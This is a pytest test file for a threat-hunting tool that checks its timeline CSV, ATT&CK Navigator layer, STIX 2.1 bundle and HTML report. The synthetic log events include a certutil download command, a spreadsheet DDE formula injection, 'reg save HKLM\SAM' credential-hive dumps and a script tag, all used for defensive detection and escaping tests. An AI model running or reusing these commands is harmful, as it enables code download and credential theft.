"""What a hunt writes besides its lines: timeline, Navigator layer, STIX bundle, page."""

import csv
import io
import json
import re
import uuid
from pathlib import Path
from typing import Any

import pytest

from holdfast.app import hunt_outputs
from holdfast.app.hunt import HuntOptions, hunt
from holdfast.app.hunt_outputs import HuntOutputs
from holdfast.app.settings import Settings
from holdfast.model.status import RunStatus, State
from hunting import event_of, write_events

HERE = Path(__file__).parent
GOLDEN = HERE / "golden/hunt"
EVENTS: list[dict[str, Any]] = [
    {"log": "sysmon/1", "CommandLine": "certutil -urlcache -f http://192.0.2.1/a a", "User": "CORP\\anna"},
    {"log": "sysmon/11", "TargetFilename": "D:\\x\\hamcore.se2", "Image": "D:\\x\\a.exe"},
    {"log": "sysmon/1", "CommandLine": "=cmd|' /c reg save'!A1\nsecond line", "User": "CORP\\anna"},
    {"log": "sysmon/22", "QueryName": "<script>alert(1)</script>.example.net", "Image": "a.exe"},
    {"log": "sysmon/3", "DestinationIp": "45.204.1.247", "Image": "a.exe"},
    {"log": "sysmon/1", "CommandLine": "reg save HKLM\\SAM s", "User": "anna", "Computer": "second.example"},
    {"log": "sysmon/1", "CommandLine": "reg save HKLM\\SAM s", "Computer": "no-time.example"},
]
TIMES = ["2023-08-02T10:00:05Z", "2023-08-02T10:00:00Z", "2023-08-03T00:00:00.5Z", "2023-08-03T00:00:00Z",
         "2023-08-01T00:00:00Z", "2023-08-09T12:00:00+02:00", None]  # fmt: skip


@pytest.fixture
def written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with the four outputs of the events above."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "rules.yml").write_text((HERE / "hunt_rules.yml").read_text("utf-8"), "utf-8")
    lines = [
        {**event_of(event), **({"@timestamp": time} if time else {})}
        for event, time in zip(EVENTS, TIMES, strict=True)
    ]
    write_events(tmp_path / "events.ndjson", lines)
    run(tmp_path)
    return tmp_path


def run(folder: Path) -> list[RunStatus]:
    outputs = HuntOutputs(folder / "t.csv", folder / "n.json", folder / "s.json", folder / "p.html")
    options = HuntOptions(rules=("rules.yml",), outputs=outputs)
    outcome = hunt(["events.ndjson"], Settings(folder / "home"), options)
    assert len(list(outcome.rows)) == 7
    return list(outcome.statuses())


@pytest.mark.parametrize("name", ["t.csv", "n.json", "s.json"])
def test_output_is_as_agreed(written: Path, name: str) -> None:
    """Each output is byte for byte the one that was looked at and agreed."""
    content = (written / name).read_text("utf-8")
    content = re.sub(r"Holdfast \d[\w.]*", "Holdfast VERSION", content)
    content = re.sub(r"(correlations, )[0-9a-f]{16}", r"\1DIGEST", content)
    assert content == (GOLDEN / name).read_text("utf-8")


def test_a_rerun_gives_the_same_bytes(written: Path) -> None:
    """Nothing in an output depends on the moment of writing."""
    names = ("t.csv", "n.json", "s.json", "p.html")
    before = [(written / name).read_bytes() for name in names]
    run(written)
    assert [(written / name).read_bytes() for name in names] == before


def test_timeline_is_in_order_and_runs_no_formula(written: Path) -> None:
    """Lines are in order of time though files are not, no cell starts a formula, each match is one physical line."""
    text = (written / "t.csv").read_text("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["datetime"] for row in rows] == sorted(row["datetime"] for row in rows)
    assert {"message", "timestamp", "datetime", "timestamp_desc"} <= set(rows[0])
    assert len(text.splitlines()) == len(rows) + 1 == 7
    assert not [cell for row in rows for cell in row.values() if cell[:1] in set("=+-@")]
    assert rows[-1]["datetime"] == "2023-08-09T10:00:00.000000+00:00"


def test_matches_without_a_time_are_said_to_be_missing(written: Path) -> None:
    """A match that no timeline can hold is counted in a status."""
    status = next(one for one in run(written) if one.plug == "hunt.timeline")
    assert (status.state, status.counts) == (State.PARTIAL, {"undated": 1})


def test_long_timelines_are_sorted_from_disk(written: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What does not fit in memory at once comes out the same."""
    whole = (written / "t.csv").read_bytes()
    monkeypatch.setattr(hunt_outputs, "IN_MEMORY", 2)
    run(written)
    assert (written / "t.csv").read_bytes() == whole


def test_navigator_layer_has_the_published_structure(written: Path) -> None:
    """Every required property of layer format 4.5 is there with its type, and no technique stands twice."""
    layer = json.loads((written / "n.json").read_text("utf-8"))
    assert set(layer) >= {"name", "versions", "domain", "techniques"}
    assert layer["versions"]["layer"] == "4.5"
    assert tuple(map(int, layer["versions"]["navigator"].split("."))) >= (4, 9, 0)
    assert layer["domain"] == "enterprise-attack"
    ids = [technique["techniqueID"] for technique in layer["techniques"]]
    assert len(ids) == len(set(ids))
    assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", technique) for technique in ids)
    assert layer["gradient"]["maxValue"] > layer["gradient"]["minValue"]
    assert all(re.fullmatch(r"#[0-9a-f]{6}", colour) for colour in layer["gradient"]["colors"])
    assert all(set(entry) == {"name", "value"} and entry["value"] for entry in layer["metadata"])


def test_navigator_counts_signs_by_the_number_of_today(written: Path) -> None:
    """T1562.001 of an old tag is T1685; two rules on two hosts are more than one rule seen often."""
    layer = json.loads((written / "n.json").read_text("utf-8"))
    scores = {one["techniqueID"]: one["score"] for one in layer["techniques"] if "score" in one}
    assert scores["T1685"] == 1
    assert "T1562.001" not in scores
    assert scores["T1003.002"] == 3  # the same rule on three hosts
    assert scores["T1071"] == 1


REQUIRED = {
    "identity": {"name"},
    "indicator": {"pattern", "pattern_type", "valid_from"},
    "attack-pattern": {"name"},
    "relationship": {"relationship_type", "source_ref", "target_ref"},
    "sighting": {"sighting_of_ref"},
    "observed-data": {"first_observed", "last_observed", "number_observed", "object_refs"},
    "grouping": {"context", "object_refs"},
}
OBSERVABLES = {"file", "process", "ipv4-addr", "domain-name", "user-account", "windows-registry-key"}
STAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z")


def test_stix_bundle_has_the_published_structure(written: Path) -> None:
    """Types, required properties, ids, times and references are those of STIX 2.1."""
    bundle = json.loads((written / "s.json").read_text("utf-8"))
    objects = {one["id"]: one for one in bundle["objects"]}
    assert len(objects) == len(bundle["objects"])
    for name, thing in objects.items():
        kind, _, number = name.partition("--")
        assert kind == thing["type"]
        assert uuid.UUID(number).version in {4, 5}
        assert thing["spec_version"] == "2.1"
        assert kind in REQUIRED or kind in OBSERVABLES, kind
        assert set(thing) >= REQUIRED.get(kind, set()) | (
            {"created", "modified"} if kind in REQUIRED else set()
        )
        for key, value in thing.items():
            if key in {"created", "modified", "valid_from"} or key.startswith(("first_", "last_")):
                assert STAMP.fullmatch(value), (key, value)
            for reference in value if key.endswith("_refs") else [value] if key.endswith("_ref") else []:
                assert reference in objects, (key, reference)
    for one in objects.values():
        if one["type"] == "observed-data":
            assert {objects[name]["type"] for name in one["object_refs"]} <= OBSERVABLES


def test_stix_names_no_culprit(written: Path) -> None:
    """No threat actor and no intrusion set stands in the bundle; a grouping says what the host is consistent with."""
    objects = json.loads((written / "s.json").read_text("utf-8"))["objects"]
    assert not {one["type"] for one in objects} & {"threat-actor", "intrusion-set", "campaign"}
    groups = [one["name"] for one in objects if one["type"] == "grouping"]
    assert len(groups) == 1
    assert "consistent with Flax Typhoon" in groups[0]


def test_page_tells_the_story_and_runs_no_input(written: Path) -> None:
    """Verdict, host, evidence and place stand on the page; markup in a log is text."""
    page = (written / "p.html").read_text("utf-8")
    assert "host.example is consistent with the tradecraft of Flax Typhoon" in page
    assert "events.ndjson:2" in page
    assert "<script" not in page
    assert "How it spread" in page
    assert "who shows signs on host.example before" in page
    assert "1 match does not say when" in page
